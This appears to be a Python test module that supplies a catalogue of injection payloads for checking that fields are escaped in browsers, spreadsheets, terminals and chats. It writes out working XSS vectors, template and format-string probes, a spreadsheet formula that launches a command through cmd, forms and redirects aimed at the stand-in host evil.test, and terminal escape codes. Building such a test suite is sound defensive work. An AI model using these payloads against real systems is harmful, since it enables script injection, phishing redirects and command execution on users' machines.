"""What strangers write into fields so that somebody else's program runs it: browsers, spreadsheets, terminals, chats.

`mark` names a payload's field and number: what it makes of a page has that id.
"""

from __future__ import annotations

from typing import Final

from tests.faults.house import many

_RUN: Final = "src=x onerror=alert(1)"

#: MARK is the id of whatever element a page would make of it; nothing here may ever be fetched: `.test` hosts are dead.
MARKUP: Final = {
    "script": "<script id=MARK>alert(1)</script>",
    "attributes in either quotes": f"\"><img id=MARK {_RUN}>'><img id=MARK {_RUN}>",
    "end of whatever is open": f"</title></textarea></select></style></script></option><img id=MARK {_RUN}>",
    "javascript": "javascript:alert(1)//MARK",
    "more attributes, single quotes": "' id=MARK autofocus onfocus=alert(1) onmouseover=alert(1) x='",
    "template": "{{7*7}}MARK{{config}}{% debug %}",
    "no such character": f"<im\0g id=MARK {_RUN}>",
    "image": f"<img id=MARK {_RUN}>",
    "foreign script": "<script id=MARK src=//evil.test/x.js></script>",
    "svg": "<svg id=MARK onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "attribute in single quotes": f"'><img id=MARK {_RUN}>",
    "attribute in backticks": f"`><img id=MARK {_RUN}>",
    "more attributes, double quotes": '" id=MARK autofocus onfocus=alert(1) onmouseover=alert(1) x="',
    "more attributes, no quotes": "x id=MARK autofocus onfocus=alert(1) ",
    "javascript with a tab": "java\tscript:alert(1)//MARK",
    "javascript with a line break": "java\r\nscript:alert(1)//MARK",
    "javascript in entities": "java&#115;cript&colon;alert(1)//MARK",
    "javascript after a control": "\x01 \xa0JaVaScRiPt:alert(1)//MARK",
    "data": "data:text/html,<script id=MARK>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)//MARK",
    "other templates": "${7*7}MARK<%= 7*7 %>#{7*7}[[7*7]]",
    "format strings": "%(name)s %s %d {0} {name!r} MARK 100%",
    "style": "<style id=MARK>*{background:url(//evil.test/x)}</style>",
    "style of an element": '<p id=MARK style="background:url(//evil.test/y)">',
    "comment": f"--><img id=MARK {_RUN}><!--",
    "cdata": f"]]><img id=MARK {_RUN}><![CDATA[",
    "look-alikes": f"＜img id=MARK {_RUN}＞",
    "noscript": f'<noscript><p title="</noscript><img id=MARK {_RUN}>">',
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img id=MARK title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "json in a script": '"}]</script><script id=MARK>alert(1)</script>',
    "line separators": "\u2028</script>\u2029<script id=MARK>alert(1)</script>",
    "frame": '<iframe id=MARK srcdoc="<script>alert(1)</script>"></iframe>',
    "base": "<base id=MARK href=//evil.test/>",
    "refresh": '<meta id=MARK http-equiv=refresh content="0;url=//evil.test/">',
    "form": "<form id=MARK action=//evil.test/><button>Sign in again</button>",
    "button of our form": "<button id=MARK form=star formaction=//evil.test/>Star</button>",
    "names of our own": "<a id=MARK name=main></a><img id=main name=q><form id=keys name=news>",
    "style sheet": "<link id=MARK rel=stylesheet href=//evil.test/x.css>",
    "object": "<object id=MARK data=//evil.test/x></object><embed src=//evil.test/y>",
    "escaped before": f"&lt;img id=MARK {_RUN}&gt;",
    "percent-encoded": "%3Cimg id=MARK src=x onerror=alert(1)%3E",
    "words for chats": "<!channel> <https://evil.test|here> @everyone [here](https://evil.test) "
    "![](https://evil.test/p) {{{DATE(2026)}}} MARK",
    "formula": '=HYPERLINK("https://evil.test/";"MARK")',
    "formula after a separator": "\ufeff \"MARK;=cmd|'/C calc'!A0;@SUM(1)",
    "terminal": "\x1b]0;MARK\x07\x1b[2J\x9b31m\rnobody\x08",
}

#: Those used now: the first four, which between them end whatever a value may stand in, or all of them.
NAMES: Final = tuple(MARKUP)[: many(4, len(MARKUP))]


def mark(number: int, field: str) -> str:
    """The id of payload `number` in that field."""
    # No dash: pages write names of events and attributes with spaces.
    return f"xss{number}.{field.replace('-', '')}"


def payload(number: int, field: str) -> str:
    """The text of payload `number` (of `NAMES`) for that field."""
    return MARKUP[NAMES[number]].replace("MARK", mark(number, field))
